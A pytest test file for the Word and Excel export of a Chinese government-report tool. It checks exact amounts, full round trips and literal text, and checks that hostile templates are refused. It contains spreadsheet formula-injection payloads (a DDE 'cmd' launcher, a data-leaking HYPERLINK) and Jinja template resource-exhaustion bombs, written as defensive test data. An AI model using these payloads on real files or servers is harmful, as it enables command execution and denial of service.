"""Issue 12, the attack on the exports (.docx, .xlsx) and on the reading of our own workbook.

Each test here failed on the code before its fix:

1. amounts went through float in our own .xlsx round trip (12345678901.123456 came back as
   12345678901.12346; 0.00005 as "5e-05 不是数字");
2. our .xlsx lost what the file holds: notes, last year's figures and text, unknown keys,
   narrative past sheet row 20,000; a formula typed into an input cell was dropped silently;
3. user text became a formula (a unit's issuer on the per-unit sheet of a summed report);
4. docxtpl turned the narrative's ``{_{`` into ``{{``;
5. U+2028/2029, VT and FF became line breaks and control characters vanished, unsaid;
6. a narrative of 400,000 lines took minutes and gigabytes (and crashed the .xlsx export), and a
   user template with nested loops, ``10**100000000`` or a format-width bomb ran until killed.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import textwrap
import zipfile
from decimal import Decimal
from pathlib import Path

import docx as pydocx
import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import etree

from conftest import CJK, DEMO
from govreport_gui.core import aggregate as A
from govreport_gui.core import native, rules
from govreport_gui.core.export import ExportError
from govreport_gui.core.export import docx as export_docx
from govreport_gui.core.export import xlsx as export_xlsx
from govreport_gui.core.importers import read_path


pytestmark = pytest.mark.usefixtures("read_in_this_process")     # the readers in this process (tests/conftest.py)

REPO = Path(__file__).resolve().parents[1]
DONGAN = REPO / "tests" / "fixtures" / "published" / "2020_dongan_district.govreport"   # 2019
S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def same(a, b) -> None:
    """Two reports are the same report: every key of the native file, compared as JSON."""
    assert native.to_json(b) == native.to_json(a)


def xlsx_round_trip(report, path: Path, blank: str = "empty"):
    export_xlsx.export(report, path, blank=blank, force=True)
    return read_path(path)


def soffice(args: list[str], files: list[Path], outdir: Path) -> None:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        pytest.fail("LibreOffice (soffice) is not installed: run scripts/setup.sh --test (installs it)")
    profile = outdir / "lo-profile"
    cmd = [exe, f"-env:UserInstallation={profile.as_uri()}", "--headless", *args,
           "--outdir", str(outdir), *[str(f) for f in files]]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr


# ============================================================================================
# 1. amounts exact from end to end


EXACT_AMOUNTS = ["12345678901.123456", "99999999999999.99", "0.00005", "0.000001", "999999999999999.999999",
                 "123456789012345", "0.1", "7"]


@pytest.mark.parametrize("amount", EXACT_AMOUNTS)
def test_xlsx_amount_round_trips_exactly(tmp_path, amount):
    src = native.load(DEMO)
    src.values["s2.fees.amount"] = Decimal(amount)
    res = xlsx_round_trip(src, tmp_path / "a.xlsx")
    assert res.problems == []
    got = res.report.values["s2.fees.amount"]
    assert isinstance(got, Decimal) and got == Decimal(amount), got


def test_xlsx_amount_is_written_as_the_exact_decimal(tmp_path):
    """The visible cell holds the number itself, every digit (openpyxl writes 16 digits)."""
    src = native.load(DEMO)
    src.values["s2.fees.amount"] = Decimal("12345678901.123456")
    path = tmp_path / "a.xlsx"
    export_xlsx.export(src, path, force=True)
    xml = sheet_xml(path, "二、主动公开")
    values = [c.findtext(f"{S}v") for c in xml.iter(f"{S}c")]
    assert "12345678901.123456" in values


def _amounts():
    return st.integers(0, 6).flatmap(
        lambda p: st.integers(0, 10 ** (15 + p) - 1).map(lambda n: Decimal(n).scaleb(-p)))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(source=st.sampled_from([DEMO, DONGAN]), data=st.data())
@example(source=DONGAN, data=None)
def test_xlsx_round_trip_is_exact_for_any_figure(tmp_path_factory, source, data):
    """Amounts 0 ≤ x < 10^15 with up to 6 decimals, counts and signed figures up to the model's
    maximum (15 digits): what is exported reads back as the same number, exactly."""
    src = native.load(source)
    comp = rules.compiled(src.ed).computed
    src.previous = None
    src.values = {c: v for c, v in src.values.items() if c not in comp}     # totals: blank, live formulas
    inputs = [c for c in src.ed.cells if c not in comp]
    for c in inputs:
        vtype = src.ed.cells[c].type
        if data is None:              # the corners: the largest figures a cell may hold
            v = {"amount": Decimal("999999999999999.999999"), "count": 10**15 - 1, "signed": -(10**15 - 1)}[vtype]
        elif vtype == "amount":
            v = data.draw(_amounts(), label=c)
        elif c in inputs[:6] or vtype == "signed":
            v = data.draw(st.integers(-(10**15 - 1) if vtype == "signed" else 0, 10**15 - 1), label=c)
        else:
            continue
        src.set(c, v)                     # as the model holds it (an amount normalized: 0.0 is 0)
    path = tmp_path_factory.mktemp("prop") / "p.xlsx"
    res = xlsx_round_trip(src, path)
    assert res.problems == []
    for c in inputs:
        assert res.report.values.get(c) == src.values.get(c), c
        assert type(res.report.values.get(c)) is type(src.values.get(c)), c
    same(src, res.report)


def test_xlsx_amounts_survive_a_libreoffice_resave(tmp_path):
    """Excel, WPS and LibreOffice hold numbers as doubles and write them back so: the exact
    figure must still be read when the cell still shows the same number."""
    src = native.load(DONGAN)
    for c, v in zip([c for c, cd in src.ed.cells.items() if cd.type == "amount"],
                    ["12345678901.123456", "99999999999999.99", "0.00005"]):
        src.set(c, Decimal(v))
    src.values["s2.licensing.change"] = -(10**15 - 1)
    path = tmp_path / "ours.xlsx"
    export_xlsx.export(src, path, force=True)
    out = tmp_path / "lo"
    out.mkdir()
    soffice(["--calc", "--convert-to", "xlsx"], [path], out)
    res = read_path(out / "ours.xlsx")
    assert res.problems == [], res.problems
    same(src, res.report)


# ============================================================================================
# 2. our own workbook reads back whole


def rich_report():
    """The demo with everything a file can hold: accepted warnings with their explanations,
    last year's figures and text, unknown keys at every level, every contact field."""
    r = native.load(DEMO)
    r.values["s3.new.natural"] = r.previous.values["s3.new.natural"] * 50        # H4 warnings
    rules.compute_totals(r)
    r.notes = {"H4:s3.new.natural": "本年新设政务服务热线，申请量大增。\n第二行说明 =1+1",
               "H4:s3.new.total": "同上；{{ x }} & <b>",
               "s3.new.natural": "单元格说明"}
    r.meta = {"published": "2025-01-20", "address": "云泽市政通路88号", "postcode": "368100",
              "phone": "0736-7208116", "email": "gk@yunze.gov.cn", "website": "https://www.yunze.gov.cn",
              "contact": "张三", "x-future-meta": {"a": [1, 2.5, "文字"]}}
    r.previous.extra = {"x-previous-note": "上年另有说明"}
    r.extra = {"x-future": {"list": [1, "二", None, True, 0.5], "text": "=cmd|' /C calc'!A0"}}
    r.text["s6"] = "第一段。\n\n  前后有空格的一段  \n=SUM(A1:A3)\n+cmd|' /C calc'!A0\n{{ title }}\n"
    return r


def test_xlsx_round_trip_keeps_the_whole_report(tmp_path):
    src = rich_report()
    findings = [(f.rule, f.key, f.accepted, f.note) for f in rules.check(src)]
    assert ("H4", "H4:s3.new.natural", True, src.notes["H4:s3.new.natural"]) in findings
    res = xlsx_round_trip(src, tmp_path / "rich.xlsx")
    assert res.problems == [] and res.notes == []
    same(src, res.report)
    assert [(f.rule, f.key, f.accepted, f.note) for f in rules.check(res.report)] == findings


@pytest.mark.parametrize("blank", ["empty", "zero"])
def test_xlsx_round_trip_of_a_report_with_blanks(tmp_path, blank):
    """hainan has 138 blank cells; printed as 0 (blank="zero") they are still blank when read back."""
    src = native.load(REPO / "tests" / "fixtures" / "published" / "2020_hainan_township.govreport")
    res = xlsx_round_trip(src, tmp_path / "h.xlsx", blank=blank)
    assert res.problems == []
    same(src, res.report)


def test_xlsx_narrative_too_long_for_the_workbook_is_refused_or_read_whole(tmp_path):
    """25,000 lines: the reader stopped at sheet row 20,000 without a word."""
    src = native.load(DEMO)
    src.text["s6"] = "\n".join(f"第{i}行" for i in range(25_000))
    path = tmp_path / "long.xlsx"
    try:
        export_xlsx.export(src, path)
    except ExportError as e:
        assert CJK.search(str(e)) and "行" in str(e)
        assert not path.exists()
        return
    same(src, read_path(path).report)


def test_xlsx_rows_beyond_what_is_read_are_named(tmp_path):
    """Text someone added far down the information sheet, past what the reader reads: said."""
    path = tmp_path / "ours.xlsx"
    export_xlsx.export(native.load(DEMO), path)
    wb = openpyxl.load_workbook(path)
    wb["报告信息"].cell(row=30_000, column=1, value="s6")
    wb["报告信息"].cell(row=30_000, column=2, value="远处的一段")
    wb.save(path)
    res = read_path(path)
    assert any("报告信息" in p and "未读取" in p for p in res.problems), res.problems


@pytest.mark.parametrize("formula", ["=1+2", "=SUM(D8:D9)"])
def test_xlsx_formula_in_an_input_cell_is_named(tmp_path, formula):
    path = tmp_path / "ours.xlsx"
    src = native.load(DEMO)
    export_xlsx.export(src, path)
    wb = openpyxl.load_workbook(path)
    sheet, addr = next((r[1], r[2]) for r in wb["_govreport"].iter_rows(min_row=3, values_only=True)
                       if r[0] == "s3.new.natural")
    wb[sheet][addr] = formula
    wb.save(path)
    res = read_path(path)
    assert "s3.new.natural" not in res.report.values
    place = src.ed.cells["s3.new.natural"].place
    assert any(place in p and formula in p and "公式" in p for p in res.problems), res.problems


def test_xlsx_with_rows_inserted_is_refused_not_misread(tmp_path):
    """Rows inserted above a table move every figure; the hidden map does not follow. Reading
    the old addresses gave other cells' figures without a word."""
    from govreport_gui.core.importers import SourceError

    path = tmp_path / "ours.xlsx"
    export_xlsx.export(native.load(DEMO), path)
    wb = openpyxl.load_workbook(path)
    wb["三、依申请公开"].insert_rows(4, 2)
    wb.save(path)
    with pytest.raises(SourceError) as e:
        read_path(path)
    assert "三、依申请公开" in str(e.value) and "改动" in str(e.value)


def test_xlsx_map_redirected_to_another_cell_is_refused(tmp_path):
    """The hidden map edited to read a cell from somewhere else: not followed."""
    from govreport_gui.core.importers import SourceError

    path = tmp_path / "ours.xlsx"
    export_xlsx.export(native.load(DEMO), path)
    wb = openpyxl.load_workbook(path)
    m = wb["_govreport"]
    rows = {m.cell(row=r, column=1).value: r for r in range(3, m.max_row + 1)}
    m.cell(row=rows["s3.new.natural"], column=3).value = m.cell(row=rows["s3.new.legal"], column=3).value
    wb.save(path)
    with pytest.raises(SourceError):
        read_path(path)


def test_xlsx_edited_in_a_spreadsheet_reads_what_it_shows(tmp_path):
    """A figure and a line of text changed in the workbook: read as changed; live totals follow
    the changed figure; everything else (notes, last year) stays."""
    src = rich_report()
    path = tmp_path / "ours.xlsx"
    export_xlsx.export(src, path, force=True)
    wb = openpyxl.load_workbook(path)
    where = {r[0]: (r[1], r[2]) for r in wb["_govreport"].iter_rows(min_row=3, values_only=True)}
    sheet, addr = where["s3.new.legal"]
    wb[sheet][addr] = src.values["s3.new.legal"] + 5
    info = wb["报告信息"]
    for row in info.iter_rows():
        if row[0].value == "发布机关":
            row[1].value = "改过的机关"
    wb.save(path)
    res = read_path(path)
    got = res.report
    assert got.values["s3.new.legal"] == src.values["s3.new.legal"] + 5
    assert got.values["s3.new.total"] == src.values["s3.new.total"] + 5
    assert got.issuer == "改过的机关"
    assert got.notes == src.notes and native.to_json(got)["previous"] == native.to_json(src)["previous"]
    assert got.extra == src.extra


# ============================================================================================
# 3. every text cell is text


HOSTILE = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
           "=1+1"]


def sheet_xml(path: Path, title: str):
    """The XML of a worksheet, found by its title."""
    with zipfile.ZipFile(path) as z:
        wb = etree.fromstring(z.read("xl/workbook.xml"))
        rels = etree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
        rid = next(s.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
                   for s in wb.iter(f"{S}sheet") if s.get("name") == title)
        target = next(r.get("Target") for r in rels if r.get("Id") == rid)
        return etree.fromstring(z.read("xl/" + target.lstrip("/").removeprefix("xl/")))


def summed_report(tmp_path):
    src = native.load(DEMO)
    paths = []
    for i, issuer in enumerate(HOSTILE[:3]):
        r = src.copy()
        r.issuer = issuer
        r.previous = None
        p = tmp_path / f"u{i}.govreport"
        native.save(r, p)
        paths.append(str(p))
    report = A.aggregate(list(A.read_units(paths, workers=1)), HOSTILE[3])
    report.meta["address"] = HOSTILE[4]
    report.meta["contact"] = HOSTILE[5]
    report.text["s1"] = "\n".join(HOSTILE)
    report.notes["s3.new.natural"] = HOSTILE[1]
    return report


def test_xlsx_every_text_cell_is_text(tmp_path):
    report = summed_report(tmp_path)
    path = tmp_path / "sum.xlsx"
    export_xlsx.export(report, path, force=True)
    wb = openpyxl.load_workbook(path)
    totals = rules.compiled(report.ed).computed
    live = {(r[1], r[2]) for r in wb["_govreport"].iter_rows(min_row=3, values_only=True) if r[0] in totals}
    for ws in wb.worksheets:
        root = sheet_xml(path, ws.title)
        for c in root.iter(f"{S}c"):
            if c.find(f"{S}f") is not None:
                assert (ws.title, c.get("r")) in live, (ws.title, c.get("r"), etree.tostring(c))
            text = "".join(c.itertext())
            if c.get("t") not in ("s", "inlineStr") and c.find(f"{S}f") is None:
                assert text == "" or re.fullmatch(r"-?\d+(\.\d+)?", text), (ws.title, c.get("r"), text)
    units = wb["各单位明细"]
    assert [units.cell(row=i, column=1).value for i in (2, 3, 4)] == HOSTILE[:3]


def test_xlsx_no_user_text_evaluates_in_libreoffice(tmp_path):
    report = summed_report(tmp_path)
    path = tmp_path / "sum.xlsx"
    export_xlsx.export(report, path, force=True)
    out = tmp_path / "lo"
    out.mkdir()
    soffice(["--calc", "--convert-to", "xlsx"], [path], out)
    wb = openpyxl.load_workbook(out / "sum.xlsx", data_only=True)
    units = wb["各单位明细"]
    assert [units.cell(row=i, column=1).value for i in (2, 3, 4)] == HOSTILE[:3]
    info = {r[0]: r[1] for r in wb["报告信息"].iter_rows(values_only=True) if r[0]}
    assert info["发布机关"] == HOSTILE[3] and info["通讯地址"] == HOSTILE[4] and info["联系人"] == HOSTILE[5]
    assert [r[1] for r in wb["报告信息"].iter_rows(values_only=True) if r[0] == "s1"] == HOSTILE
    res = read_path(out / "sum.xlsx")
    assert res.report.issuer == HOSTILE[3] and res.report.text["s1"] == report.text["s1"]


# ============================================================================================
# 4. the report's text comes out in Word exactly as written


BRACES = ["{{ title }}", "{% if 1 %}x{% endif %}", "{# 注释 #}", "{_{ 花括号 }_}", "{_% 百分号 %_}", "{{p tables.s3 }}",
          "{%p for x in s1 %}", "& < > \" ' &amp; &lt;", "{{{{ 四个 }}}}", "{%- if -%}", "]]><![CDATA[ x"]


def test_docx_text_comes_out_exactly(tmp_path):
    r = native.load(DEMO)
    r.issuer = "{_{机关}_}"
    r.meta["address"] = "{_%地址%_} {{ x }}"
    r.text["s6"] = "\n".join(BRACES)
    path = tmp_path / "t.docx"
    export_docx.export(r, path, force=True)
    doc = pydocx.Document(path)
    texts = [p.text for p in doc.paragraphs]
    assert texts[0].replace("\n", "") == r.title
    i = texts.index("六、其他需要报告的事项")
    assert texts[i + 1:i + 1 + len(BRACES)] == BRACES
    assert texts[-2] == r.issuer
    assert len(doc.tables) == 3


def test_docx_text_comes_out_exactly_with_a_user_template(tmp_path):
    r = native.load(DEMO)
    r.issuer = "{_{机关}_}"
    r.meta["address"] = "{_%地址%_} & <"
    r.text["s6"] = "\n".join(BRACES)
    t = tmp_path / "mine.docx"
    d = pydocx.Document()
    for p in ["{{ issuer }}|{{ meta.address }}", "{%p for para in s6 %}", "{{ para.text }}", "{%p endfor %}",
              "模板自己的 {_{ 与 }_} 照 docxtpl 的约定印成 {{ '{{' }}"]:
        d.add_paragraph(p)
    d.save(t)
    doc = pydocx.Document(_render(tmp_path, r, template=t))
    assert [p.text for p in doc.paragraphs] == [f"{r.issuer}|{r.meta['address']}", *BRACES,
                                                "模板自己的 {{ 与 }} 照 docxtpl 的约定印成 {{"]


def _render(tmp_path, report, **kw) -> Path:
    path = tmp_path / "out.docx"
    path.write_bytes(export_docx.render(report, **kw))
    return path


# ============================================================================================
# 5. characters a document cannot hold: changed as meant, and said


CONTROL_TEXT = "第一段\u2028同段第二行\n第二段\x01\x02\x1f\n第三段\x0c第四段\u2029第五段\x0b同段\x85第六段\r\n第七段"


def test_docx_line_and_paragraph_separators_and_control_characters(tmp_path):
    from govreport_gui.core.export import text_changes

    r = native.load(DEMO)
    r.text["s5"] = CONTROL_TEXT
    r.issuer = "云泽市\x07人民政府"
    path = tmp_path / "c.docx"
    notes = export_docx.export(r, path, force=True)
    doc = pydocx.Document(path)
    texts = [p.text for p in doc.paragraphs]
    i = texts.index("五、存在的主要问题及改进情况")
    assert texts[i + 1:i + 8] == ["第一段\n同段第二行", "第二段", "第三段", "第四段", "第五段\n同段", "第六段", "第七段"]
    assert texts[0].startswith("云泽市人民政府")
    assert notes == text_changes(r, "docx")
    said = "\n".join(notes)
    assert re.search(r"五、存在的主要问题及改进情况.*3 个控制字符.*已删去", said), said
    assert "U+2028" in said and "U+2029" in said and "U+000C" in said and "U+0085" in said, said
    assert re.search(r"发布机关.*1 个控制字符", said), said
    assert text_changes(native.load(DEMO), "docx") == []


def test_xlsx_control_characters_are_said_and_the_text_reads_back_whole(tmp_path):
    from govreport_gui.core.export import text_changes

    r = native.load(DEMO)
    r.text["s5"] = CONTROL_TEXT
    r.meta["contact"] = "张三\x1b"
    path = tmp_path / "c.xlsx"
    notes = export_xlsx.export(r, path, force=True)
    assert notes == text_changes(r, "xlsx")
    said = "\n".join(notes)
    assert re.search(r"五、存在的主要问题及改进情况.*3 个控制字符", said) and "联系人" in said, said
    same(r, read_path(path).report)


# ============================================================================================
# 6. nothing huge is built


MEASURE = textwrap.dedent("""
    import json, sys, time
    try:
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (3 * 1024**3, 3 * 1024**3))   # the machine's safety, not the test
    except (ImportError, ValueError, OSError):
        resource = None

    def peak():
        if resource is not None:
            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
        import ctypes                      # Windows: the process's peak working set
        from ctypes import wintypes as w

        class Counters(ctypes.Structure):
            _fields_ = [("cb", w.DWORD), ("faults", w.DWORD)] + [(n, ctypes.c_size_t) for n in (
                "peak", "now", "peak_paged", "paged", "peak_nonpaged", "nonpaged", "pagefile", "peak_pagefile")]
        c = Counters()
        c.cb = ctypes.sizeof(c)
        ctypes.windll.psapi.GetProcessMemoryInfo(ctypes.windll.kernel32.GetCurrentProcess(), ctypes.byref(c), c.cb)
        return c.peak

    import docx as pydocx
    from govreport_gui.core import native
    from govreport_gui.core.export import ExportError, docx, xlsx
    with open(sys.argv[1], encoding="utf-8") as f:       # a file: a Windows command line holds 32,767 characters
        cases = json.load(f)
    out = sys.argv[2]
    results = []
    for name, kind, template, lines in cases:
        r = native.load(sys.argv[3])
        if lines:
            r.text["s6"] = "\\n".join(["一二"] * lines)
        tpl = None
        if template is not None:
            tpl = out + "/" + name + ".tpl.docx"
            d = pydocx.Document()
            for p in template:
                d.add_paragraph(p)
            d.save(tpl)
        t = time.perf_counter()
        try:
            if kind == "docx":
                docx.export(r, out + "/" + name + ".docx", template=tpl)
            else:
                xlsx.export(r, out + "/" + name + ".xlsx")
            msg = None
        except ExportError as e:
            msg = str(e)
        results.append([name, msg, time.perf_counter() - t])
    print(json.dumps({"results": results, "peak": peak()}))      # ASCII: whatever the code page
""")

BOMBS = {
    "nested-loops": ["{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}"],
    "nested-silent": ["{%- for a in range(100000) -%}{%- for b in range(100000) -%}{%- endfor -%}{%- endfor -%}"],
    "power": ["{{ 10**100000000 }}"],
    "percent-width": ["{{ '%*d' % (10**9, 1) }}"],
    "percent-literal": ["{{ '%999999999d' % 1 }}"],
    "format-width": ["{{ '{:>999999999}'.format(1) }}"],
    "format-filter": ["{{ '%999999999s'|format(1) }}"],
    "center": ["{{ 'x'|center(1000000000) }}"],
    "ljust": ["{{ 'x'.ljust(1000000000) }}"],
    "to-bytes": ["{{ (1).to_bytes(1000000000, 'big') }}"],
    "repeat": ["{{ 'x' * 1000000000 }}"],
    "list-repeat": ["{{ [1] * 1000000000 }}"],
    "doubling-macro": ["{% macro f(s, n) %}{{ f(s ~ s, n - 1) if n else s|length }}{% endmacro %}{{ f('x', 60) }}"],
    "doubling-namespace": ["{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
                           "{% endfor %}{{ ns.s|length }}"],
    "doubling-list": ["{% set l = [1] %}{% for i in range(60) %}{{ l.extend(l) }}{% endfor %}"],
    "join": ["{% set s = 'x' * 100000 %}{{ ([s] * 100000)|join }}"],
    "lipsum": ["{{ lipsum(1000000000) }}"],
    "tables": ["{%p for i in range(100000) %}", "{{p tables.s3 }}", "{%p endfor %}"],
    "paragraph-loop": ["{%p for i in range(100000) %}", "{%p for para in s1 %}", "{{ para.text }}",
                       "{%p endfor %}", "{%p endfor %}"],
    "recursive-loop": ["{% for x in [[1]] recursive %}{{ loop([x, x]) }}{% endfor %}"],
    "unclosed-tags": ["{{" * 40000],
    "nested-generators": ["{% for a in range(1000)|map('string') %}{% for b in range(100000)|map('string') %}x"
                          "{% endfor %}{% endfor %}"],
    "substring-loop": ["{% set s = '一' * 3000000 %}{% for i in range(100000) %}{% if 'zzz' in s %}{% endif %}"
                       "{% endfor %}"],
    "slice-loop": ["{% set s = '一' * 3000000 %}{% for i in range(100000) %}{{ s[1:]|length }}{% endfor %}"],
    "property-loop": ["{%p for i in range(100000) %}", "{%p for para in s1 %}", "{% if para.text %}{% endif %}",
                      "{%p endfor %}", "{%p endfor %}"],
    "sort-loop": ["{% set l = range(100000)|list %}{% for i in range(100000) %}{{ (l|sort)[0] }}{% endfor %}"],
}


def measure(tmp_path, cases: list, source: Path = DEMO) -> tuple[dict, int]:
    spec = tmp_path / "cases.json"
    spec.write_text(json.dumps(cases), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-c", MEASURE, str(spec), str(tmp_path), str(source)],
                          capture_output=True, text=True, errors="replace", timeout=120, cwd=REPO)
    assert proc.returncode == 0, proc.stderr[-3000:]
    got = json.loads(proc.stdout.strip().splitlines()[-1])
    return {name: (msg, seconds) for name, msg, seconds in got["results"]}, got["peak"]


def test_hostile_templates_are_refused_quickly_and_small(tmp_path):
    results, peak = measure(tmp_path, [[name, "docx", tpl, 0] for name, tpl in BOMBS.items()])
    slow = {n: s for n, (_, s) in results.items() if s > 10}
    accepted = [n for n, (msg, _) in results.items() if msg is None]
    untold = {n: msg for n, (msg, _) in results.items() if msg and (not CJK.search(msg) or "Error" in msg)}
    assert not accepted and not slow and not untold, (accepted, slow, untold)
    assert peak < 1024**3, f"peak {peak / 1024**2:.0f} MB"


def test_a_template_too_large_to_be_one_is_refused(tmp_path):
    """A template whose text unpacks to megabytes: docxtpl's clean-up of 8 MB took 6 s."""
    small = tmp_path / "small.docx"
    pydocx.Document().save(small)
    big = tmp_path / "big.docx"
    body = "".join(f"<w:p><w:r><w:t>第{i}段模板文字。</w:t></w:r></w:p>" for i in range(200_000))
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "word/document.xml":
                data = re.sub(rb"<w:body>", b"<w:body>" + body.encode(), data, count=1)
            dst.writestr(item, data)
    out = tmp_path / "out.docx"
    with pytest.raises(ExportError) as e:
        export_docx.export(native.load(DEMO), out, template=big)
    assert "过大" in str(e.value) and not out.exists()


def test_a_real_template_is_not_hindered(tmp_path):
    """What a real template does (loops over paragraphs, cells, a few filters) stays allowed."""
    tpl = ["{{ title|upper }} {{ '%s年' % year }} {{ '{:,}'.format(12345) }} {{ issuer|center(30) }}",
           "{%p for para in s1 %}", "{{ loop.index }}. {{ para.text|replace('。', '.')|truncate(400) }}",
           "{%p endfor %}",
           "{% for k, val in v|dictsort %}{% if loop.index < 4 %}{{ k }}={{ val }};{% endif %}{% endfor %}",
           "{{ range(10)|map('string')|join(',') }} {{ ('一' * 30) ~ '|' }} {{ 2 ** 10 }} {{ s6|length }}",
           "{{p tables.s3 }}"]
    results, _ = measure(tmp_path, [["real", "docx", tpl, 0]])
    assert results["real"][0] is None, results["real"]


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_huge_narrative_is_refused_quickly_and_small(tmp_path, kind):
    """400,000 narrative lines (1.2 MB, inside every limit of the .govreport file)."""
    results, peak = measure(tmp_path, [["lines", kind, None, 400_000]])
    msg, seconds = results["lines"]
    assert msg and CJK.search(msg) and "400" in msg, msg
    assert seconds < 10 and peak < 1024**3, (seconds, peak)
    assert not (tmp_path / f"lines.{kind}").exists()


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_largest_allowed_narrative_exports_and_reads_back(tmp_path, kind):
    from govreport_gui.core.export import MAX_LINES

    src = native.load(DEMO)
    per = MAX_LINES // 4 - 10
    for tid in src.text:
        src.text[tid] = "\n".join(f"{tid}第{i}段，前后一致。" for i in range(per))
    path = tmp_path / f"big.{kind}"
    (export_docx if kind == "docx" else export_xlsx).export(src, path, force=True)
    res = read_path(path)
    if kind == "xlsx":
        same(src, res.report)
    else:
        assert len(pydocx.Document(path).paragraphs) > 4 * per
